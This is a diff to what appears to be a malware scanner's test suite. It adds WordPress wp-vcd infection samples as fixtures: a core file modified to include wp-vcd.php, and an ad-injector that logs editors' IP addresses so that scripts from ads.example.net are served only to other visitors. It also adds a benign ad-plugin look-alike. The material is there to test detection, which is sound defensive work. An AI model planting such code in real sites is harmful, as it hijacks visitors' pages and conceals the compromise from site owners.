@@ -212,6 +212,34 @@ if (is_file($page)) {
 }
 `,
   ],
+  [
+    'a WordPress core file given a first line including wp-vcd.php where it exists (H53)',
+    '/srv/www/wp-includes/post.php',
+    `<?php if (file_exists(dirname(__FILE__) . '/wp-vcd.php')) include_once(dirname(__FILE__) . '/wp-vcd.php'); ?><?php
+/**
+ * Core Post API (stand-in)
+ */
+function get_post_status_stand_in($p) { return $p->post_status ?? false; }
+`,
+  ],
+  [
+    'wp-vcd\'s ad injector: editors\' addresses kept in wp-includes, ad scripts added to posts and footers for everyone else (H53)',
+    '/srv/www/wp-includes/wp-tmp.php',
+    `error_reporting(0);
+if (!function_exists('post_extra')) {
+function post_extra($content) { if (is_single()) $content .= '<script async src="//ads.example.net/p.php?z=77"></script>'; return $content; }
+function footer_extra() { if (!is_single()) echo '<script src="//ads.example.net/f.php?z=78"></script>'; }
+if (current_user_can('edit_others_pages')) {
+  $seen = @file_get_contents(ABSPATH . 'wp-includes/wp-feed.php');
+  if (stripos($seen, $_SERVER['REMOTE_ADDR']) === false) @file_put_contents(ABSPATH . 'wp-includes/wp-feed.php', $seen . $_SERVER['REMOTE_ADDR'] . "\\n");
+}
+if (!is_user_logged_in()) {
+  $list = @file_get_contents(ABSPATH . 'wp-includes/wp-feed.php');
+  if (stripos($list, $_SERVER['REMOTE_ADDR']) === false) { add_filter('the_content', 'post_extra'); add_action('wp_footer', 'footer_extra'); }
+}
+}
+`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -376,6 +404,18 @@ $c[$kind] = ($c[$kind] ?? 0) + 1;
 file_put_contents($file, json_encode($c), LOCK_EX);
 `,
   ],
+  [
+    'an ad plugin that shows its own network\'s script to visitors who are not logged in',
+    '/srv/www/wp-content/plugins/simple-ads/ads.php',
+    `<?php
+/* Plugin Name: Simple Ads */
+add_action('wp_footer', function () {
+  if (is_user_logged_in()) return;
+  echo '<script async src="https://ads.example.com/tag.js?id=' . esc_attr(get_option('simple_ads_id')) . '"></script>';
+});
+add_action('admin_init', function () { if (current_user_can('manage_options') && isset($_POST['simple_ads_id'])) update_option('simple_ads_id', sanitize_text_field($_POST['simple_ads_id'])); });
+`,
+  ],
 ];
 
 const FAMILIES: [string, string, string][] = [
@@ -492,14 +532,14 @@ describe('scan: session 44 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 15));
+  it('ran every page', () => assert.equal(PAGES.length, 17));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 13));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 14));
 });
 
 describe('scan: families written from their published shapes (session 44)', () => {
